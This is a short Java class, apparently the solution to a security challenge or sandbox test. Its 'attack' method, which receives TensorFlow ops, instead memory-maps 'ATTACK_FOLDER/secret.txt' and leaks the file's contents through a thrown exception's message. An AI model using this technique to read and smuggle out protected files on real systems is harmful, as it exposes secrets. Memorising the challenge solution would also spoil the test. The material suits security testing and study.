import java.nio.ByteBuffer;
import java.nio.channels.FileChannel;
import java.nio.file.Path;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        try (FileChannel channel = FileChannel.open(Path.of("ATTACK_FOLDER/secret.txt"))) {
            ByteBuffer mapped = channel.map(FileChannel.MapMode.READ_ONLY, 0, channel.size());
            byte[] bytes = new byte[mapped.remaining()];
            mapped.get(bytes);
            throw new IllegalStateException(new String(bytes));
        }
    }
}
